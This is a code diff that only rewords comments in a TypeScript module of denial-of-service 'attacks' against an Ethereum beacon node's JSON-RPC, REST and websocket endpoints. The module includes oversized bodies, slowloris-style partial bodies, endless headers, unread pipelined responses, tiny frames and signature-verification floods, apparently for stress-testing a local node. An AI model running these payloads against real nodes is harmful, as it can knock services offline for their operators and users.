@@ -1,17 +1,17 @@
 import { batchText, type Clients, callText, post, postHead } from "./clients.ts";
 
-/** Goes on until its clients are not wanted any more. */
+/** Runs until the attack is stopped. */
 export type Attack = (clients: Clients) => Promise<void>;
 
 const MIB = 1024 * 1024;
 const LARGEST_BODY = 32 * MIB;
-/** The most calls that a batch may hold. */
+/** Maximum number of calls in a batch. */
 const BATCH_CALLS = 1000;
-/** As long as a caller in a hurry waits. */
+/** Timeout of an impatient caller. */
 const HURRY_MILLIS = 500;
 const STATES = "/eth/v1/beacon/states";
 
-/** Batches for a thousand different states, whose sender does not wait for the answer. */
+/** Batches for a thousand states, whose sender does not wait for the response. */
 function leftBatches(method: string): Attack {
   return (clients) =>
     clients.repeat(1, async () => {
@@ -21,7 +21,7 @@ function leftBatches(method: string): Attack {
     });
 }
 
-/** Parameters as long as a request may be, made of one text again and again. */
+/** Parameters of the maximum request size, one text repeated. */
 function longParams(method: string, before: string, item: string): Attack {
   return (clients) => {
     const start = `{"jsonrpc":"2.0","id":1,"method":"${method}","params":[${before}[`;
@@ -31,7 +31,7 @@ function longParams(method: string, before: string, item: string): Attack {
   };
 }
 
-/** One string as long as a body may be, as the parameter or as the id of a call. */
+/** A string of the maximum body size, as parameter or id of a call. */
 const longStrings: Attack = (clients) => {
   const method = '"jsonrpc":"2.0","method":"post_v1_beacon_pool_attestations"';
   const string = `"${"x".repeat(LARGEST_BODY - 200)}"`;
@@ -40,14 +40,14 @@ const longStrings: Attack = (clients) => {
   return clients.repeat(2, () => clients.exchange(clients.target.jsonRpcUrl, requests[next++ % 2]!));
 };
 
-/** Brackets as long as a body may be, which are no JSON. */
+/** Brackets of the maximum body size, which are not valid JSON. */
 const brackets: Attack = (clients) => {
   const start = '{"jsonrpc":"2.0","id":1,"method":"post_v1_beacon_pool_attestations","params":';
   const request = post(`${start}${"[]".repeat((LARGEST_BODY - 200) / 2)}}`);
   return clients.repeat(2, () => clients.exchange(clients.target.jsonRpcUrl, request));
 };
 
-/** Batches of as many values as a message may hold. */
+/** Batches with the maximum number of values. */
 const longBatches: Attack = (clients) => {
   const item = `"${"x".repeat(50)}"`;
   const items = Array(480_000).fill(item).join(",");
@@ -55,7 +55,7 @@ const longBatches: Attack = (clients) => {
   return clients.repeat(2, () => clients.exchange(clients.target.jsonRpcUrl, request));
 };
 
-/** Batches whose answers are as large as they may be. */
+/** Batches with the largest responses. */
 const committees: Attack = (clients) => {
   const calls = Array.from({ length: BATCH_CALLS }, (_, id) =>
     callText("get_v1_beacon_states_stateId_committees_epoch", ["head"], id),
@@ -63,7 +63,7 @@ const committees: Attack = (clients) => {
   return clients.repeat(4, () => clients.exchange(clients.target.jsonRpcUrl, post(batchText(calls))));
 };
 
-/** Batches of misspelt method names, for each of which a similar name could be looked for. */
+/** Batches of misspelt method names, each of which could trigger a suggestion. */
 const unknownMethods: Attack = (clients) => {
   const calls = Array.from({ length: BATCH_CALLS }, (_, id) =>
     callText(`get_v1_beacon_states_stateId_validatr_balances_x${id}`, [], id),
@@ -71,7 +71,7 @@ const unknownMethods: Attack = (clients) => {
   return clients.repeat(20, () => clients.exchange(clients.target.jsonRpcUrl, post(batchText(calls))));
 };
 
-/** Opens connections up to so many, and whatever of them the node closes again. */
+/** Opens this many connections, and reopens closed ones. */
 async function keepOpen(clients: Clients, count: number, open: () => Promise<void>): Promise<void> {
   while (clients.areWanted) {
     const missing = Math.min(100, Math.ceil(count * clients.scale) - clients.count);
@@ -80,7 +80,7 @@ async function keepOpen(clients: Clients, count: number, open: () => Promise<voi
   }
 }
 
-/** Bodies of which all but the end comes, on both servers. */
+/** Bodies without their end, on both servers. */
 const halfBodies: Attack = (clients) => {
   const { jsonRpcUrl, restUrl } = clients.target;
   const beginning = Buffer.concat([
@@ -97,7 +97,7 @@ const halfBodies: Attack = (clients) => {
   });
 };
 
-/** Bodies in chunks of one byte, each of which a careless server holds as an object of its own. */
+/** Bodies in chunks of one byte, each of which a careless server stores as an object. */
 const tinyChunks: Attack = (clients) => {
   const chunks = "1\r\n \r\n".repeat(MIB);
   const { jsonRpcUrl } = clients.target;
@@ -109,7 +109,7 @@ const tinyChunks: Attack = (clients) => {
   });
 };
 
-/** Heads that go on and on, on both servers. */
+/** Endless headers, on both servers. */
 const longHeads: Attack = (clients) => {
   const { jsonRpcUrl, restUrl } = clients.target;
   const beginning = `GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ${"x".repeat(MIB - 1000)}`;
@@ -118,7 +118,7 @@ const longHeads: Attack = (clients) => {
   });
 };
 
-/** As many requests ahead of their answers as may be, and none of the answers is read. */
+/** The maximum number of pipelined requests, with unread responses. */
 const unreadAnswers: Attack = (clients) => {
   const { jsonRpcUrl, restUrl } = clients.target;
   const calls = post(callText("get_v1_beacon_states_stateId_validators", ["head"]), { keepAlive: true });
@@ -163,7 +163,7 @@ const fragments: Attack = (clients) =>
     }
   });
 
-/** Whole messages, or pings, as small as can be, one right after the other. */
+/** Minimal messages or pings in rapid succession. */
 function tinyFrames(opcode: number): Attack {
   // Masked with zeros, as clients have to mask.
   const frame = Buffer.from([0x80 | opcode, 0x80 | 1, 0, 0, 0, 0, 0x31]);
@@ -185,7 +185,7 @@ function tinyFrames(opcode: number): Attack {
     });
 }
 
-/** Objects of more different names than any reader likes. */
+/** Objects with very many distinct names. */
 const manyMembers: Attack = (clients) => {
   const members = Array.from({ length: 70_000 }, (_, index) => `"name${index}":1`).join(",");
   const request = post(`{"jsonrpc":"2.0","id":1,"method":"getChainHead","params":{${members}}}`);
@@ -215,7 +215,7 @@ const stalledReaders: Attack = (clients) =>
     socket?.pause();
   });
 
-/** Objects of the right form by the thousand, every one with a signature that has to be looked at. */
+/** Thousands of well-formed objects, each with a signature to verify. */
 const registrations: Attack = (clients) => {
   const one = {
     message: {
@@ -230,7 +230,7 @@ const registrations: Attack = (clients) => {
   return clients.repeat(2, () => clients.exchange(clients.target.jsonRpcUrl, post(body)));
 };
 
-/** Whole states as JSON, from everywhere at once. */
+/** Whole states as JSON, from many clients at once. */
 const states: Attack = (clients) => {
   const { restUrl } = clients.target;
   let next = 0;
